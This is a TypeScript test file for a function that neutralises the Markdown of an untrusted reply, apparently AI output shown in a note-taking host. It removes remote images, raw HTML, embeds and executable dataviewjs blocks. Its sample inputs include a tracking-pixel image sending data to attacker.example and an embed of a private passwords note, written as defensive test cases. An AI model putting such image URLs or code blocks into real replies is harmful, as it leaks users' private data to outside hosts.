/**
 * What the host's Markdown renderer is given of a reply (issue 25): no code, no HTML and no image
 * left, each recognised by where it stands, never by its look.
 */
import { describe, expect, it } from "vitest";
import { neutraliseMarkdown } from "../../../src/ui/untrusted/neutralise";

const N = "n0";
const marker = (i: number) => `RLX${N}P${i}Z`;

describe("neutralising a reply's Markdown", () => {
	it("takes a remote image out, leaving a marker for its placeholder", () => {
		const out = neutraliseMarkdown('Done. ![pixel](http://attacker.example/p.png?d=x "t")', N);
		expect(out.markdown).toBe(`Done. ${marker(0)}`);
		expect(out.pieces).toEqual([{ kind: "image", image: { alt: "pixel", url: "http://attacker.example/p.png?d=x" } }]);
	});

	it("shows raw HTML, comments and autolinks as text", () => {
		const out = neutraliseMarkdown('<img src="http://a.example/x.png">\n<!-- hidden -->\n<https://a.example>', N);
		expect(out.markdown).toBe('&lt;img src="http://a.example/x.png">\n&lt;!-- hidden -->\n&lt;https://a.example>');
	});

	it("keeps code whole, so an image or a tag inside it stays text and no processor sees the block", () => {
		const out = neutraliseMarkdown("```dataviewjs\ndv.paragraph('![](http://a.example/x.png)')\n```\nAnd `<b>![](u)</b>` inline.", N);
		expect(out.markdown).toBe(`${marker(0)}\nAnd ${marker(1)} inline.`);
		expect(out.pieces).toEqual([
			{ kind: "code", code: { kind: "block", lang: "dataviewjs", text: "dv.paragraph('![](http://a.example/x.png)')" } },
			{ kind: "code", code: { kind: "inline", text: "<b>![](u)</b>" } },
		]);
	});

	it("takes fenced blocks out of quotes and list items, and an unclosed fence runs to the end", () => {
		const out = neutraliseMarkdown("> ~~~js\n> let x = 1;\n> ~~~\n- ```\n  ![](http://a.example/y.png)", N);
		expect(out.markdown).toBe(`> ${marker(0)}\n- ${marker(1)}`);
		expect(out.pieces.map((p) => (p.kind === "code" ? p.code.text : ""))).toEqual(["let x = 1;", "![](http://a.example/y.png)"]);
	});

	it("matches inline code by backtick runs of the same length, and escapes a run that closes nothing", () => {
		const out = neutraliseMarkdown("`` a ` b `` and ` lone", N);
		expect(out.markdown).toBe(`${marker(0)} and \\\` lone`);
		expect(out.pieces[0]).toEqual({ kind: "code", code: { kind: "inline", text: "a ` b" } });
	});

	it("turns an embed into a link and escapes any other image syntax (a reference image becomes a link)", () => {
		const out = neutraliseMarkdown("![[Private/Passwords]] ![ref][r]\n\n[r]: http://a.example/x.png", N);
		expect(out.markdown).toBe("[[Private/Passwords]] \\![ref][r]\n\n[r]: http://a.example/x.png");
	});

	it("keeps backslash escapes, and an escaped < stays text", () => {
		expect(neutraliseMarkdown("\\<b> \\` \\*", N).markdown).toBe("&lt;b> \\` \\*");
	});

	it("leaves ordinary Markdown alone: links, [[links]], callouts, math, emphasis", () => {
		const text = "> [!note] Plan\n> See [[Daily|today]] and [docs](https://docs.example).\n\n$$e = mc^2$$ **bold** _it_";
		expect(neutraliseMarkdown(text, N).markdown).toBe(text);
	});
});

describe("no fence is left for the host's renderer", () => {
	it("takes out a fence after nested list and quote markers", () => {
		const out = neutraliseMarkdown("1. - > ```dataviewjs\n     > dv.paragraph(1)\n     > ```", N);
		expect(out.markdown).toBe(`1. - > ${marker(0)}`);
	});

	it("escapes every run of three tildes and every backtick run that closes nothing", () => {
		const out = neutraliseMarkdown("text\n    ~~~~dataviewjs\n~~strike~~ and ```", N);
		expect(out.markdown).toBe(`text\n    ${marker(0)}`);
		expect(neutraliseMarkdown("a ~~~ b ``` c", N).markdown).toBe("a \\~\\~\\~ b \\`\\`\\` c");
	});
});
